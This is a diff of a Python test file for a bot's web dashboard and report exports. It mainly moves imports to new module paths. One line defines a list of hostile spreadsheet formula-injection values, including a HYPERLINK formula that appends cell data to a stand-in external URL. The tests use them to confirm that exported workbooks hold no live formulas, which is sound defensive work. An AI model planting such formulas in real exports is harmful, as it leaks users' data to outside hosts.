@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 from aiohttp.test_utils import TestClient, TestServer
 
-from bot.dashboard import COOKIE, SERVICES, DashboardServices, make_app
+from bot.web.dashboard import COOKIE, SERVICES, DashboardServices, make_app
 from tests.ledgers.conftest import PASSWORDS, Clock
 
 # --- the Secure cookie flag -------------------------------------------------------------------------------
@@ -15,8 +15,8 @@ def _served(monkeypatch, argv: list[str], env: str | None = None) -> DashboardSe
     """Run ``python -m bot dashboard ARGV`` up to ``web.run_app`` and return the services it would serve."""
     from aiohttp import web
 
-    import bot.cli_reports as cli
-    from bot.cli import build_parser
+    import bot.cli.reports as cli
+    from bot.cli.main import build_parser
 
     class FakeApp:
         uow = None
@@ -25,7 +25,7 @@ def _served(monkeypatch, argv: list[str], env: str | None = None) -> DashboardSe
             pass
 
     served: list[web.Application] = []
-    monkeypatch.setattr(cli, "_app", FakeApp)
+    monkeypatch.setattr(cli, "open_app", FakeApp)
     monkeypatch.setattr(web, "run_app", lambda app, **kw: served.append(app))
     if env is None:
         monkeypatch.delenv("XUNZHEN_DASHBOARD_SECURE_COOKIE", raising=False)
@@ -88,7 +88,7 @@ HOSTILE = ['=HYPERLINK("http://x.example/"&A1,"点此")', "+1+1", "-2+3", "@SUM(
 @pytest.fixture
 def hostile_report(monkeypatch, sqlite_world):
     """A hotline lead whose summary is a formula, and an extra sheet of hostile text and real numbers."""
-    import bot.reports as reports
+    import bot.web.reports as reports
     from domain.ledgers import LeadSource
     from storage.ledgers import LedgerRepository
     from tests.conftest import FIXED_NOW
@@ -113,7 +113,7 @@ def test_report_files_never_hold_formulas(hostile_report, sqlite_world, tmp_path
 
     from openpyxl import load_workbook
 
-    from bot.cli_reports import make_report
+    from bot.cli.reports import make_report
     from tests.conftest import FIXED_NOW
 
     with sqlite_world[1]() as uow:
@@ -164,8 +164,8 @@ async def _login(client, code: str, password: str | None = None, *, origin=None,
 async def test_database_password_and_workbook_work_stay_off_the_event_loop(monkeypatch, sqlite_world):
     import threading
 
-    import bot.dashboard as dash
-    import bot.reports as reports
+    import bot.web.dashboard as dash
+    import bot.web.reports as reports
 
     factory = sqlite_world[1]
     seen: dict[str, set[int]] = {"uow": set(), "argon2": set(), "xlsx": set()}
@@ -191,7 +191,7 @@ async def test_database_password_and_workbook_work_stay_off_the_event_loop(monke
 
 
 async def test_a_failed_workbook_leaves_no_personal_data_behind(monkeypatch, sqlite_world, tmp_path):
-    import bot.reports as reports
+    import bot.web.reports as reports
 
     def half_written(d, path):
         path.write_bytes(b"PK personal data")
@@ -270,7 +270,7 @@ async def test_a_throttled_client_gets_the_same_answer_for_a_known_and_an_unknow
     # long to wait) cannot tell a guesser which codes exist.
     import re
 
-    from bot.login_throttle import FREE_PER_ACCOUNT
+    from bot.web.login_throttle import FREE_PER_ACCOUNT
 
     def message(page: str) -> str:
         return re.search(r'id="login-error"[^>]*>([^<]*)<', page).group(1)
